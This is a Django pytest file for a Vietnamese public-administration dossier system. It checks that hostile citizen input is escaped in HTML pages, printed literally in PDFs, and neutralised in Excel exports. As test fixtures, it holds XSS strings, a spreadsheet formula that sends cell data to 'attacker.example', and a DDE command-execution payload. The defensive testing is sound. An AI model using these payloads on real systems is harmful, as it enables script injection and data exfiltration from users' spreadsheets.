"""Citizen text with HTML and script is shown escaped everywhere, PDFs included (issue 8, "Hostile input").

One dossier, one feedback ticket, one rating and one procedure carry text a hostile citizen (or a
careless import) could type: a script element, an image with an error handler, double quotes and an
ampersand. Every page that shows such text must show it escaped (the raw markup never reaches the
HTML), every printed form must print it literally (WeasyPrint rendered it as text, it did not parse
it), and every Excel export must keep it as text, with formula-looking values prefixed by "'".

The writes go through the services (dossiers.services, dossiers.ratings.services, dossiers.tickets.services, procedures.services), the
reads through the real URLs with Django's test client.
"""
from __future__ import annotations

import io
import time
from datetime import timedelta
from decimal import Decimal
from urllib.parse import urlencode

import pytest
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from openpyxl import load_workbook
from pypdf import PdfReader

from dossiers.public import antispam
from dossiers.ratings.services import rating_record
from dossiers.tickets.services import ticket_receive, ticket_step
from dossiers.models import FeedbackTicket, RatingChannel, TicketChannel, TicketClass
from dossiers.services import (
    Applicant, dossier_pause, dossier_receive, dossier_resolve, dossier_resume, dossier_return, dossier_transfer,
)
from procedures.models import Procedure, ProcedureVersion
from procedures.parsing import ComponentSpec, FeeSpec
from procedures.services import field_get_or_create, posting_set, procedure_save
from reports.formatters import to_xlsx
from motcua.periods import quarter_containing
from reports.report import build_report

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"
HOSTILE = f'{SCRIPT}{IMG} "Ba" & Con'
# What Django's escaping makes of it: the markup as text, the quotes safe inside an attribute too.
ESCAPED = escape(HOSTILE)
assert ESCAPED == "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt; &quot;Ba&quot; &amp; Con"

APPLICANT_NAME = f"Nguyễn Văn An {HOSTILE}"
ADDRESS = f"Thôn Đông {HOSTILE}"
PROCEDURE_NAME = f"Đăng ký khai sinh {HOSTILE}"
PROCEDURE_CODE = "1.001193"
TICKET_SENDER = f"Trần Thị Bình {HOSTILE}"
TICKET_CONTENT = f"Cán bộ thu thêm tiền {HOSTILE}"
ANSWER = f"Đã kiểm tra, trả lời {HOSTILE}"
COMMENT = f"Phải chờ lâu {HOSTILE}"
PHONE = "0912345678"

# Values a spreadsheet would run as formulas, typed as names and addresses.
FORMULA_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")'
FORMULA_ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_PROCEDURE = "=1+2 Thủ tục chứng thực"
FORMULA_FIELD = "+Chứng thực"


# -- set-up -----------------------------------------------------------------------------------------


@pytest.fixture
def hostile_procedure(commune_a):
    procedure = Procedure(
        code=PROCEDURE_CODE, name=PROCEDURE_NAME, field=field_get_or_create(code="HT", name="Hộ tịch"),
        level="commune", processing_days=Decimal(3), agency="UBND cấp xã",
    )
    procedure_save(
        procedure=procedure, fees=[FeeSpec("Lệ phí", 8000)], source=ProcedureVersion.Source.IMPORT,
        components=[ComponentSpec("Tờ khai đăng ký khai sinh", 1, 0)], at=timezone.now() - timedelta(days=400),
    )
    posting_set(unit=commune_a, procedure=procedure)
    return procedure


@pytest.fixture
def formula_procedure(commune_a):
    procedure = Procedure(
        code="2.000815", name=FORMULA_PROCEDURE, field=field_get_or_create(code="CT", name=FORMULA_FIELD),
        level="commune", processing_days=Decimal(0),
    )
    procedure_save(procedure=procedure, source=ProcedureVersion.Source.IMPORT, at=timezone.now() - timedelta(days=400))
    posting_set(unit=commune_a, procedure=procedure)
    return procedure


@pytest.fixture
def hostile_dossier(commune_a, agency_a, desk_officer_a, processing_a, hostile_procedure):
    """Taken in at the desk with the hostile name and address, paused, resumed, resolved and returned."""
    dossier = dossier_receive(
        unit=commune_a, procedure=hostile_procedure, by=desk_officer_a,
        applicant=Applicant(name=APPLICANT_NAME, id_number="030085001234", phone=PHONE, address=ADDRESS),
        received_at=timezone.now() - timedelta(minutes=4),
    )
    dossier_transfer(dossier=dossier, by=desk_officer_a, agency=agency_a, officer=processing_a, note=f"Chuyển {HOSTILE}",
                     at=timezone.now() - timedelta(minutes=3))
    dossier_pause(dossier=dossier, by=processing_a, kind="supplement", reason=f"Thiếu giấy {HOSTILE}",
                  at=timezone.now() - timedelta(minutes=2))
    dossier_resume(dossier=dossier, by=processing_a, at=timezone.now() - timedelta(minutes=1))
    dossier_resolve(dossier=dossier, by=processing_a, note=f"Xong {HOSTILE}")
    dossier_return(dossier=dossier, by=desk_officer_a)
    dossier.refresh_from_db()
    return dossier


@pytest.fixture
def formula_dossier(commune_a, desk_officer_a, formula_procedure):
    return dossier_receive(
        unit=commune_a, procedure=formula_procedure, by=desk_officer_a,
        applicant=Applicant(name=FORMULA_NAME, phone="0987654321", address=FORMULA_ADDRESS),
        received_at=timezone.now() - timedelta(minutes=5),
    )


def register_query(dossier) -> str:
    """The register's window: the day the dossiers were received (not "this month so far", which a
    run just after midnight on the 1st would miss)."""
    day = timezone.localtime(dossier.received_at).date()
    start = min(day, timezone.localdate() - timedelta(days=1))
    return "?" + urlencode({"from": start.strftime("%d/%m/%Y"), "to": timezone.localdate().strftime("%d/%m/%Y")})


@pytest.fixture
def hostile_ticket(commune_a, agency_a, leader_a, hostile_procedure, hostile_dossier):
    """Sent from the website with the hostile sender, address and content, answered and published."""
    ticket = ticket_receive(
        unit=commune_a, channel=TicketChannel.WEBSITE, sender_name=TICKET_SENDER, sender_contact="0987 654 321",
        sender_address=ADDRESS, content=TICKET_CONTENT, procedure=hostile_procedure, dossier=hostile_dossier,
    )
    ticket_step(ticket=ticket, action="classify", by=leader_a, classification=TicketClass.HANDLING)
    ticket_step(ticket=ticket, action="assign", by=leader_a, agency=agency_a)
    ticket_step(ticket=ticket, action="answer", by=leader_a, answer=ANSWER)
    return ticket_step(ticket=ticket, action="publish", by=leader_a)


@pytest.fixture
def hostile_rating(hostile_dossier):
    return rating_record(level="unsatisfied", channel=RatingChannel.ONLINE, dossier=hostile_dossier, comment=COMMENT)


@pytest.fixture
def everything(hostile_dossier, formula_dossier, hostile_ticket, hostile_rating):
    return {"dossier": hostile_dossier, "formula_dossier": formula_dossier, "ticket": hostile_ticket,
            "rating": hostile_rating}


# -- checks -----------------------------------------------------------------------------------------

CHECKED = {"pages": 0, "PDFs": 0, "workbooks": 0}


@pytest.fixture(scope="module", autouse=True)
def _summary(trust):
    """The pages, PDFs and workbooks whose checks held, as trust figures (each counted after its asserts)."""
    yield
    for what, count in CHECKED.items():
        if count:
            trust(f"hostile citizen text shown escaped or literal: {what} checked", count)


def html_of(response) -> str:
    assert response.status_code == 200, (response.status_code, response.get("Location"))
    assert response["Content-Type"].startswith("text/html")
    return response.content.decode()


def assert_escaped(page: str, *texts: str) -> None:
    """No raw markup of the hostile text anywhere; each text shown, escaped."""
    assert SCRIPT not in page and "<script>" not in page, "a raw <script> element reached the page"
    assert "<img src=x" not in page and IMG not in page, "a raw <img onerror> reached the page"
    for text in texts:
        assert escape(text) in page, f"{escape(text)!r} is not on the page"
    CHECKED["pages"] += 1


def pdf_text(response) -> str:
    """The PDF's text with every white space dropped: a line wrapped inside the text still matches."""
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.content))
    return "".join("".join(page.extract_text() for page in reader.pages).split())


def squeeze(text: str) -> str:
    return "".join(text.split())


def assert_printed_literally(text: str, *expected: str) -> None:
    """The hostile text printed as text: its markup shows, neither parsed away nor escaped twice."""
    for value in expected:
        assert squeeze(value) in text, f"{value!r} is not printed literally"
    assert "&lt;" not in text and "&amp;" not in text and "&quot;" not in text, "entities printed: escaped twice"
    CHECKED["PDFs"] += 1


def workbook_cells(response) -> list:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    return cells_of(response.content)


def cells_of(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_text_cells(cells: list, *values: str) -> None:
    """Each value is in a text cell (the hostile markup as text); formula-looking ones prefixed by "'"."""
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert not [cell.value for cell in cells if cell.data_type == "f"], "a cell is a formula"
    for value in values:
        wanted = "'" + value if value.startswith(("=", "+", "-", "@")) else value
        assert any(wanted in text for text in texts), f"{wanted!r} is not in any text cell"
        if wanted != value:
            assert not any(str(text).startswith(value[0]) and value in str(text) for text in texts), (
                f"{value!r} is written unprefixed")
    CHECKED["workbooks"] += 1


def log_in(client, user):
    client.force_login(user)
    return client


# -- staff pages ------------------------------------------------------------------------------------


def test_the_dossier_page_shows_the_applicant_the_procedure_and_the_notes_escaped(client, desk_officer_a, everything):
    dossier = everything["dossier"]
    page = html_of(log_in(client, desk_officer_a).get(reverse("dossiers:detail", args=[dossier.code])))
    assert_escaped(page, APPLICANT_NAME, ADDRESS, PROCEDURE_NAME, f"Thiếu giấy {HOSTILE}", f"Chuyển {HOSTILE}",
                   f"Xong {HOSTILE}")


def test_the_board_search_shows_rows_and_the_typed_query_escaped(client, desk_officer_a, everything):
    client = log_in(client, desk_officer_a)
    # The hostile text itself typed in the search box: it finds the dossier by name and comes back in the
    # box's value attribute and in the heading, escaped.
    page = html_of(client.get(reverse("dossiers:board") + "?" + urlencode({"q": HOSTILE})))
    assert everything["dossier"].code in page
    assert_escaped(page, APPLICANT_NAME, PROCEDURE_NAME)
    assert f'value="{ESCAPED}"' in page
    # by code too, and the board's panels (received today) list the same row
    page = html_of(client.get(reverse("dossiers:board") + "?" + urlencode({"q": everything["dossier"].code})))
    assert_escaped(page, APPLICANT_NAME)


def test_the_intake_page_and_the_queue_show_the_procedure_escaped(client, desk_officer_a, processing_a, everything):
    formula = everything["formula_dossier"]
    page = html_of(log_in(client, desk_officer_a).get(reverse("dossiers:intake")))
    assert_escaped(page, PROCEDURE_NAME)
    assert f'label="{escape(PROCEDURE_NAME)}"' in page  # the datalist's attribute
    page = html_of(log_in(client, processing_a).get(reverse("dossiers:queue")))
    assert formula.code in page and "<script>" not in page


def test_the_register_page_shows_the_applicant_and_the_address_escaped(client, desk_officer_a, everything):
    page = html_of(log_in(client, desk_officer_a).get(reverse("forms:register") + register_query(everything["formula_dossier"])))
    assert everything["dossier"].code in page
    assert_escaped(page, APPLICANT_NAME, ADDRESS, PROCEDURE_NAME)


def test_the_ticket_pages_show_the_sender_and_the_content_escaped(client, desk_officer_a, everything):
    ticket = everything["ticket"]
    client = log_in(client, desk_officer_a)
    page = html_of(client.get(reverse("tickets:detail", args=[ticket.code])))
    assert_escaped(page, TICKET_SENDER, ADDRESS, TICKET_CONTENT, ANSWER, PROCEDURE_NAME)
    page = html_of(client.get(reverse("tickets:list") + "?tab=all&" + urlencode({"q": "Trần Thị Bình"})))
    assert ticket.code in page
    assert_escaped(page, TICKET_SENDER)


def test_the_published_answer_page_shows_the_content_and_the_answer_escaped(client, everything):
    page = html_of(client.get(reverse("tickets:public")))
    assert everything["ticket"].code in page
    assert_escaped(page, TICKET_CONTENT, ANSWER)
    assert "Trần Thị Bình" not in page  # the sender is never published


def test_the_satisfaction_figures_list_the_unsatisfied_comment_escaped(client, leader_a, everything):
    page = html_of(log_in(client, leader_a).get(reverse("ratings:figures")))
    assert f'data-rating="{everything["rating"].pk}"' in page
    assert_escaped(page, COMMENT, PROCEDURE_NAME)


def test_the_procedure_list_and_page_show_the_name_escaped(client, desk_officer_a, everything):
    client = log_in(client, desk_officer_a)
    page = html_of(client.get(reverse("procedures:procedure-list")))
    assert_escaped(page, PROCEDURE_NAME)
    page = html_of(client.get(reverse("procedures:procedure-list") + "?" + urlencode({"q": HOSTILE, "scope": "all"})))
    assert_escaped(page, PROCEDURE_NAME)
    assert f'value="{ESCAPED}"' in page
    page = html_of(client.get(reverse("procedures:procedure-detail", args=[PROCEDURE_CODE])))
    assert_escaped(page, PROCEDURE_NAME)


# -- public pages -----------------------------------------------------------------------------------


def test_the_public_posting_pages_show_the_name_and_the_search_escaped(client, commune_a, everything):
    page = html_of(client.get(reverse("public:unit-procedures", args=[commune_a.code])))
    assert_escaped(page, PROCEDURE_NAME)
    page = html_of(client.get(reverse("public:unit-procedures", args=[commune_a.code]) + "?" + urlencode({"q": HOSTILE})))
    assert_escaped(page, HOSTILE)
    assert f'value="{ESCAPED}"' in page
    page = html_of(client.get(reverse("public:procedure-detail", args=[commune_a.code, PROCEDURE_CODE])))
    assert_escaped(page, PROCEDURE_NAME)


def test_the_public_lookup_and_the_online_rating_show_the_procedure_escaped(client, everything):
    dossier = everything["dossier"]
    page = html_of(client.get(reverse("lookup:lookup") + "?" + urlencode({"code": dossier.code, "phone4": PHONE[-4:]})))
    assert 'data-testid="lookup-result"' in page
    assert_escaped(page, PROCEDURE_NAME)
    assert "Nguyễn Văn An" not in page and "Thôn Đông" not in page  # and nothing personal
    # A hostile code typed in the form comes back escaped in its value.
    typed = '"><script>alert(1)</script>'
    page = html_of(client.get(reverse("lookup:lookup") + "?" + urlencode({"code": typed, "phone4": "1234"})))
    assert 'data-testid="lookup-not-found"' in page
    assert_escaped(page)
    assert f'value="{escape(typed)}"' in page
    # The online rating's second step shows the dossier's procedure.
    response = client.post(reverse("ratings:online"), {"code": dossier.code, "phone4": PHONE[-4:]})
    page = html_of(response)
    assert 'data-testid="online-dossier"' in page
    assert_escaped(page, PROCEDURE_NAME)


def test_the_public_feedback_form_keeps_the_text_verbatim_and_echoes_it_escaped(client, commune_a):
    typed_code = '"><script>alert(1)</script>'
    data = {
        "unit": commune_a.code, "sender_name": TICKET_SENDER, "sender_contact": "không có", "sender_address": ADDRESS,
        "content": TICKET_CONTENT, "procedure_code": "", "dossier_code": typed_code,
        antispam.TOKEN_FIELD: antispam.issue_token(at=time.time() - 30), antispam.HONEYPOT_FIELD: "",
    }
    # A bad contact and an unknown dossier code: the form comes back with what was typed, escaped.
    response = client.post(reverse("tickets:submit"), data)
    assert response.status_code == 400
    page = response.content.decode()
    assert_escaped(page, TICKET_SENDER, ADDRESS, TICKET_CONTENT)
    assert f'value="{escape(TICKET_SENDER)}"' in page and f'value="{escape(typed_code)}"' in page
    assert not FeedbackTicket.objects.exists()
    # Corrected: the ticket keeps the text exactly as typed (escaping is the pages' job, not the database's).
    data.update({"sender_contact": "0987 654 321", "dossier_code": "",
                 antispam.TOKEN_FIELD: antispam.issue_token(at=time.time() - 30)})
    response = client.post(reverse("tickets:submit"), data)
    assert response.status_code == 302, response.content.decode()[:2000]
    ticket = FeedbackTicket.objects.get()
    assert (ticket.sender_name, ticket.sender_address, ticket.content) == (TICKET_SENDER, ADDRESS, TICKET_CONTENT)
    page = html_of(client.get(response["Location"]))
    assert ticket.code in page and "<script>" not in page


# -- printed forms ----------------------------------------------------------------------------------


def test_the_receipt_and_control_slips_print_the_text_literally(client, desk_officer_a, everything):
    client = log_in(client, desk_officer_a)
    code = everything["dossier"].code
    receipt = pdf_text(client.get(reverse("forms:receipt-pdf", args=[code])))
    assert squeeze(code) in receipt
    assert_printed_literally(receipt, SCRIPT, IMG, APPLICANT_NAME, ADDRESS, PROCEDURE_NAME)
    control = pdf_text(client.get(reverse("forms:control-pdf", args=[code])))
    assert_printed_literally(control, SCRIPT, IMG, APPLICANT_NAME, PROCEDURE_NAME)
    supplement = pdf_text(client.get(reverse("forms:supplement-pdf", args=[code])))
    assert_printed_literally(supplement, SCRIPT, APPLICANT_NAME, f"Thiếu giấy {HOSTILE}")


def test_the_register_pdf_prints_the_applicant_literally(client, desk_officer_a, everything):
    text = pdf_text(log_in(client, desk_officer_a).get(reverse("forms:register-pdf") + register_query(everything["formula_dossier"])))
    assert squeeze(everything["dossier"].code) in text
    assert_printed_literally(text, SCRIPT, IMG, APPLICANT_NAME, ADDRESS)


def test_the_answer_letter_prints_the_sender_and_the_content_literally(client, leader_a, everything):
    text = pdf_text(log_in(client, leader_a).get(reverse("tickets:answer-pdf", args=[everything["ticket"].code])))
    assert_printed_literally(text, SCRIPT, IMG, TICKET_SENDER, TICKET_CONTENT, ANSWER, PROCEDURE_NAME)


def test_the_posting_pdf_prints_the_procedure_name_literally(client, desk_officer_a, commune_a, everything):
    text = pdf_text(log_in(client, desk_officer_a).get(reverse("procedures:posting-pdf") + f"?unit={commune_a.code}"))
    assert_printed_literally(text, SCRIPT, IMG, PROCEDURE_NAME)


# -- Excel ------------------------------------------------------------------------------------------


def test_the_register_workbook_keeps_text_and_escapes_formulas(client, desk_officer_a, everything):
    cells = workbook_cells(log_in(client, desk_officer_a).get(reverse("forms:register-xlsx") + register_query(everything["formula_dossier"])))
    assert_text_cells(cells, APPLICANT_NAME, ADDRESS, PROCEDURE_NAME, FORMULA_NAME, FORMULA_ADDRESS, FORMULA_PROCEDURE)


def test_the_catalogue_and_posting_workbooks_keep_text_and_escape_formulas(client, desk_officer_a, commune_a, everything):
    client = log_in(client, desk_officer_a)
    cells = workbook_cells(client.get(reverse("procedures:catalogue-xlsx")))
    assert_text_cells(cells, PROCEDURE_NAME, FORMULA_PROCEDURE, FORMULA_FIELD)
    cells = workbook_cells(client.get(reverse("procedures:posting-xlsx") + f"?unit={commune_a.code}"))
    assert_text_cells(cells, PROCEDURE_NAME, FORMULA_PROCEDURE)


def test_the_report_workbook_escapes_a_formula_looking_field_name(commune_a, everything):
    period = quarter_containing(timezone.localdate())
    cells = cells_of(to_xlsx(build_report(commune_a, period)))
    assert_text_cells(cells, FORMULA_FIELD)
